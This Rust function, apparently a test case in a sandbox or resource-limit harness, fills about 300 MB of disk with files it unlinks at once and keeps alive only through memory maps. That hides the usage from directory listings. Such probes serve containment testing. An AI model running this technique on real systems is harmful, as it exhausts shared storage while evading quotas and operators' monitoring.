//! fills the disk with files that are in no folder and in no descriptor, only in memory maps: 300 MB
fn attack() -> Result<()> {
    unsafe extern "C" {
        fn mmap(at: usize, length: usize, protection: i32, flags: i32, fd: i32, offset: i64) -> usize;
    }
    for n in 0..75 {
        let path = out(&format!("mapped-{n}"));
        let mut file = fs::OpenOptions::new().create(true).read(true).write(true).open(&path)?;
        fs::remove_file(path)?;
        file.write_all(&vec![b'x'; 4 << 20])?;
        if unsafe { mmap(0, 4096, 1, 1, std::os::fd::AsRawFd::as_raw_fd(&file), 0) } == usize::MAX {
            return Err(Error::last_os_error());
        }
        loot("4 MB\n")?;
        rest(20);
    }
    Ok(())
}
